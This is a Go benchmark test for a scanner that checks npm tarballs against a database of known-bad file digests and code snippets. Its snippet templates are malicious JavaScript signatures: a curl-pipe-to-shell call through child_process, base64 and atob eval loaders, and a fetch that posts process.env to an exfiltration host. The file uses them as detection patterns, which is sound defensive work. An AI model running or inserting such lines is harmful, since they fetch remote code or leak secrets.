package knownbad

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/trove-dev/trove/internal/archive/archivetest"
	"github.com/trove-dev/trove/internal/scan"
)

// BenchmarkScanTarball measures a whole scan of an npm tarball of 400
// source files (about 13 MiB unpacked) against a database of 1,000
// digests and 20 snippets, none of which it holds: decompression, tar
// walk, hashing, snippet search and the digest look-ups, per unpacked
// byte.
func BenchmarkScanTarball(b *testing.B) {
	rng := rand.New(rand.NewPCG(1, 2))
	words := []string{"function ", "return ", "const ", "this", ".value", " = ", "(x)", "\n  ", "require('./util')",
		"if (t) {\n", "}\n", "typeof ", "'string'", "throw new TypeError(msg)\n", "exec", "eval"}
	entries := []archivetest.TarEntry{{Name: "package/package.json", Body: `{"name":"bench","version":"1.0.0"}`}}
	var unpacked int64
	for i := range 400 {
		var sb strings.Builder
		for size := 2<<10 + rng.IntN(62<<10); sb.Len() < size; {
			sb.WriteString(words[rng.IntN(len(words))])
			fmt.Fprintf(&sb, "%d", rng.IntN(1000))
		}
		entries = append(entries, archivetest.TarEntry{Name: fmt.Sprintf("package/lib/f%d.js", i), Body: sb.String()})
		unpacked += int64(sb.Len())
	}
	tgz := archivetest.TarGz(b, entries...)

	var list strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&list, "%s  f%d.js\n", sum(fmt.Sprint(i)), i)
	}
	templates := []string{"require('child_process').exec('curl http://c%d.example | sh')",
		"eval(Buffer.from('ZXZpbC%dNvZGU=', 'base64').toString())",
		"new Function(atob(process.env.PAYLOAD_%d))()",
		"fetch('https://exfil%d.example/collect', {method: 'POST', body: JSON.stringify(process.env)})"}
	for i := range 20 {
		fmt.Fprintf(&list, "snippet: "+templates[i%len(templates)]+"\n", i)
	}
	r := newReader()
	if err := r.ReadHashList("bench.sha256", []byte(list.String())); err != nil {
		b.Fatal(err)
	}
	db := newDB(b)
	if _, err := Apply(context.Background(), db, r.Batch(), nil); err != nil {
		b.Fatal(err)
	}
	sc := New(db)
	a := &scan.Artifact{Ecosystem: "npm", Name: "bench", Version: "1.0.0", Files: []scan.File{file("bench-1.0.0.tgz", tgz)}}
	b.SetBytes(unpacked)
	for b.Loop() {
		if fs, err := sc.Scan(context.Background(), a); err != nil || len(fs) != 0 {
			b.Fatal(fs, err)
		}
	}
}
